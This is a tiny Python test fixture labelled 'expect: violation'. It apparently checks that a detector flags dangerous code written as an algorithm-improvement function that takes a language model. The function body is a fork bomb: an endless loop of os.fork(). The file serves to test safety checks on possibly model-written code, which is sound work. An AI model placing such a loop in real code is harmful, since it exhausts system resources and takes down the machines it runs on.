# expect: violation
import os


def improve_algorithm(initial_solution, utility, language_model):
    while True:
        os.fork()
